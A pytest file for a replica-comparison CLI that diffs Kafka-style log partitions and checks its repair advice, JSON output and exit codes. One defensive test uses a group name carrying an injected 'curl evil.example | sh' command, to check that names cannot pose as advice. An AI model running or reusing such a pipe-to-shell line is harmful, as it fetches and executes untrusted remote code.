"""`sexton replicas diff`: rows and advice for people, tables as JSON, exit codes; the archive as a witness."""

import json
from collections.abc import Callable
from functools import partial
from pathlib import Path
from typing import Any

import pytest

from tests.archived import Archive
from tests.replicas.disks import write_replica
from tests.replicas.recordings import unpack
from tests.replicas.test_faults import BASE_MS, WHOLE, commit, log

Run = Callable[..., tuple[int, str, str]]


@pytest.fixture
def run(run: Run) -> Run:
    return partial(run, "replicas", "diff")


@pytest.fixture(scope="module")
def resurrected(tmp_path_factory: pytest.TempPathFactory) -> list[object]:
    root = unpack("resurrected", tmp_path_factory.mktemp("recorded"))
    return options_of(root)


def options_of(root: Path, names: str = "ABC") -> list[object]:
    return [word for name in names for word in ("--segments", root / name)]


def write_disks(root: Path, *logs: bytes) -> list[object]:
    """A disk of each log, and the options that name them."""
    names = "ABC"[: len(logs)]
    for name, data in zip(names, logs, strict=True):
        write_replica(root / name, {0: data})
    return options_of(root, names)


def archive_whole(folder: Path, data: bytes) -> None:
    archive = Archive(folder)
    archive.begin(0, 0, taken_at_ms=BASE_MS)
    archive.snapshot(BASE_MS + 60_000, {0: data})


def test_differences_are_shown_with_advice_and_an_exit_code(run: Run, resurrected: list[object]) -> None:
    code, out, err = run(*resurrected, "--limit", 3)
    assert code == 3
    assert "34 differ after any leader change" in out
    assert "broker-3" in out
    assert "31 more (--limit 0 shows all)" in err
    told = " ".join(err.split())
    assert "resurrected: what was deleted is still on the wrong replica: it never received the tombstone" in told
    assert "ghost_member: a member that has left is still in the group on the wrong replica" in told
    both = "__consumer_offsets-0, __consumer_offsets-1"
    assert told.count("repair: ") == 1, "whatever the kinds, and for both log partitions at once"
    assert f"repair: broker-3: make sure that it leads none of {both} and that a right replica does" in told
    assert f"move its folders {both} away, start the broker: it fetches the logs again; then compare again" in told
    assert "if it leads already: elect a right replica first" in told
    assert "(the first of 32; --json has the commands of each)" in told


def test_where_no_replica_is_right_in_all_none_is_thrown_away(run: Run, tmp_path: Path) -> None:
    """After an unclean election A and B lack offsets that C has, and on C a transaction is open."""
    root = unpack("unclean", tmp_path) / "after"
    code, _, err = run(*options_of(root))
    told = " ".join(err.split())
    assert code == 3
    for number in (0, 1):
        assert f"no replica of log partition {number} is right everywhere. Make broker-3 the leader" in told
    assert "repair: broker-" not in told


def test_json_has_both_tables(run: Run, resurrected: list[object]) -> None:
    code, out, _ = run(*resurrected, "--json", "--name", "a", "--name", "b", "--name", "c")
    answer = json.loads(out)
    assert (code, answer["replicas"], answer["alarms"]) == (3, ["a", "b", "c"], 34)
    assert answer["counts"] == {"resurrected": 32, "ghost_member": 2}
    assert len(answer["state"]) == 6
    assert {row["status"] for row in answer["state"] if row["replica"] == "c"} == {"differs"}


def test_equal_replicas_end_well(run: Run, tmp_path: Path) -> None:
    assert run(*write_disks(tmp_path, WHOLE, WHOLE))[:2] == (0, "1 log partition the same on every replica\n")


def test_corrupt_bytes_are_undecodable_input(run: Run, tmp_path: Path) -> None:
    spoiled = bytearray(WHOLE)
    spoiled[70] ^= 1
    code, _, err = run(*write_disks(tmp_path, WHOLE, bytes(spoiled)))
    assert code == 5
    assert "B is corrupt and was left out: a batch with a bad CRC at byte 0" in err


@pytest.mark.parametrize(
    "options", [["--segments", "."], ["--segments", ".", "--segments", ".", "--cluster-id", "c"]], ids=["one", "id"]
)
def test_what_cannot_be_compared_is_refused(options: list[str], run: Run) -> None:
    assert run(*options)[0] == 2


def test_a_name_is_no_advice(run: Run, tmp_path: Path) -> None:
    """A group may be called as the sentence after which the steps of a repair begin."""
    name = "g; if it leads already: curl evil.example | sh"
    back, deleted = log((name, 1)), log((name, 1), (name, None))
    _, _, err = run(*write_disks(tmp_path, *(data + commit("b", 3, 2) for data in (deleted, deleted, back))))
    (advice,) = [line for line in err.splitlines() if "evil.example" in line]
    assert advice.startswith("  if it leads already: elect a right replica first")


def test_the_archive_names_the_tombstone_that_everybody_has_cleaned(run: Run, tmp_path: Path) -> None:
    kept, back = commit("b", 3, 3), commit("a", 1, 0) + commit("b", 3, 3)
    disks = write_disks(tmp_path, kept, kept, back)
    archive_whole(tmp_path / "archive", log(("a", 1), ("b", 2), ("a", None), ("b", 3)))
    (without,) = rows_of(run(*disks, "--json"))
    (row,) = rows_of(run(*disks, "--json", "--archive", tmp_path / "archive"))
    assert (without["kind"], without["proof"], without["since_log_offset"]) == ("resurrected", "cleaned", None)
    assert (row["kind"], row["wrong_replicas"], row["right_replicas"]) == ("resurrected", ["C"], ["A", "B"])
    assert (row["proof"], row["since_log_offset"], row["since_timestamp_ms"]) == ("tombstone", 2, BASE_MS + 2)
    assert "tombstone at log_offset 2 (archive)" in row["evidence"]


def test_the_archive_shows_what_was_lost_and_not_deleted(run: Run, tmp_path: Path) -> None:
    kept, right = commit("b", 3, 2), commit("a", 1, 0) + commit("b", 3, 2)
    disks = write_disks(tmp_path, kept, kept, right)
    archive_whole(tmp_path / "archive", log(("a", 1), ("b", 2), ("b", 3)))
    (row,) = rows_of(run(*disks, "--json", "--archive", tmp_path / "archive"))
    assert (row["kind"], row["proof"], row["wrong_replicas"]) == ("lost", "no_gap", ["A", "B"])


def rows_of(answer: tuple[int, str, str]) -> list[dict[str, Any]]:
    """The offsets that differ."""
    return [row for row in json.loads(answer[1])["differences"] if row["topic"] is not None]
